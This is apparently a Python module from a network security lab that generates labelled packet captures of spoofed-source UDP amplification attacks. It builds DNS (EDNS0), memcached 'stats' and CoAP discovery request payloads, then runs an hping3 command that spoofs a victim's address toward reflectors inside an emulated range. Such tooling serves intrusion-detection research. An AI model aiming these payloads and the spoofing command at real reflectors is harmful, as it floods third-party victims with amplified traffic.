"""Spoofed-source amplification through the range's own reflectors: the
attacker sends small requests "from" the victim with hping3, the reflector
answers the victim with far more."""
import os
import struct

import benign

ATTACKER, VICTIM = '198.51.100.66', '10.10.0.40'


def dns_query():
    q = b''.join(bytes([len(l)]) + l.encode() for l in 'big.range.test'.split('.')) + b'\x00'
    opt = b'\x00' + struct.pack('>HHIH', 41, 4096, 0, 0)  # EDNS0: 4096-byte answers
    return struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 1) + q + struct.pack('>HH', 16, 1) + opt


def memcached_stats():
    return struct.pack('>HHHH', 0x1234, 0, 1, 0) + b'stats\r\n'


def coap_core():
    # CON GET, message id, no token; Uri-Path ".well-known" (option 11), "core"
    return bytes([0x40, 0x01, 0x12, 0x34, 0xbb]) + b'.well-known' + bytes([0x04]) + b'core'


def run(lab, ctx, name, port, payload, setup, count=3000):
    benign.city(lab, ctx)
    lab.host('attacker', [ATTACKER + '/24'])
    lab.host('victim', [VICTIM + '/24'])
    refl = setup(lab, ctx)
    path = os.path.join(ctx.dir, name + '.req')
    with open(path, 'wb') as f:
        f.write(payload)
    cmd = ['hping3', '--udp', '-a', VICTIM, '-p', str(port), '-E', path, '-d', str(len(payload)),
           '-c', str(count), '-i', 'u500', '-q', refl]
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=6)
    lab.run('attacker', cmd, timeout=60, log=ctx.log('hping3'))
    return {'tool': 'hping3', 'command': ' '.join(cmd).replace(path, name + '.req'),
            'attacker': [ATTACKER], 'victim': [VICTIM], 'benign': benign.ADDRS,
            'spoofed': True, 'first': 'ip.src==%s && udp.srcport==%d && ip.dst==%s'
            % (refl, port, VICTIM)}
